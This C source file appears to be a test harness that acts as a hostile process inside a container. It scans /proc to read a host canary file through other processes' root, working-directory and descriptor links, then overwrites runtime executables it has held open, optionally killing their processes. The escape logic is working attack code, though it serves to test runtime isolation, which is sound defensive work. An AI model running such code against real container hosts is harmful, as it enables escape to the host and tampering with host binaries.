// SPDX-License-Identifier: Apache-2.0
/*
 * A hostile process in a container: waits for the runtime to come in and takes what it carries.
 *
 *   grab SECONDS CANARY KILL
 *
 * Looks at every process of the PID namespace but itself, over and over, and
 *   - tries to read CANARY, a file of the host, through the process's root, working directory and
 *     descriptors;
 *   - opens the file the process runs, if that is none of the container's, and from then on tries
 *     to write to it, as soon as nobody runs it any more (with KILL = 1 it kills who runs it).
 * Prints "ready", and at the end "seen P exes E written W canary C": processes looked at, foreign
 * programs opened, of these overwritten, and how often the canary was read.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { MAX_PIDS = 1 << 16, MAX_HELD = 64, HIGHEST_FD = 32 };

static char seen[MAX_PIDS];
static int held[MAX_HELD], n_held, n_seen, n_written, n_canary;
static const char *canary;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void try_read(const char *path)
{
	char text[16];
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		return;
	if (read(fd, text, sizeof(text)) >= 6 && memcmp(text, "canary", 6) == 0)
		n_canary++;
	close(fd);
}

static void try_paths(int pid)
{
	static const char up[] = "../../../../../../../..";
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, canary);
	try_read(path);
	snprintf(path, sizeof(path), "/proc/%d/cwd/%s%s", pid, up, canary);
	try_read(path);
	for (int fd = 3; fd < HIGHEST_FD; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d/%s%s", pid, fd, up, canary);
		try_read(path);
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		try_read(path);
	}
}

/* The container's own programs are found under the name the kernel has for them. */
static int is_foreign(const char *link, const struct stat *st)
{
	char name[PATH_MAX];
	ssize_t n = readlink(link, name, sizeof(name) - 1);
	struct stat own;

	if (n < 0)
		return 0;
	name[n] = 0;
	return stat(name, &own) < 0 || own.st_dev != st->st_dev || own.st_ino != st->st_ino;
}

static void try_exe(int pid, int kill_it)
{
	char link[64];
	struct stat st, other;

	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	int fd = open(link, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || n_held == MAX_HELD || !is_foreign(link, &st)) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_held; i++) {
		if (fstat(held[i], &other) == 0 && other.st_ino == st.st_ino &&
		    other.st_dev == st.st_dev) {
			close(fd);
			goto out;
		}
	}
	held[n_held++] = fd;
out:
	if (kill_it)
		kill(pid, SIGKILL);
}

static void try_write(void)
{
	static const char text[] = "#!/bin/sh\necho overwritten\n";
	char path[64];

	for (int i = 0; i < n_held; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd < 0)
			continue;
		if (write(fd, text, sizeof(text) - 1) > 0)
			n_written++;
		close(fd);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	double end = now() + atof(argv[1]);
	int kill_it = atoi(argv[3]);

	canary = argv[2];
	puts("ready");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc))) {
			int pid = atoi(d->d_name);

			if (!isdigit((unsigned char)d->d_name[0]) || pid == getpid())
				continue;
			if (pid < MAX_PIDS && !seen[pid]) {
				seen[pid] = 1;
				n_seen++;
			}
			try_exe(pid, kill_it);
			try_paths(pid);
		}
		if (proc)
			closedir(proc);
		try_write();
	}
	printf("seen %d exes %d written %d canary %d\n", n_seen, n_held, n_written, n_canary);
	return 0;
}
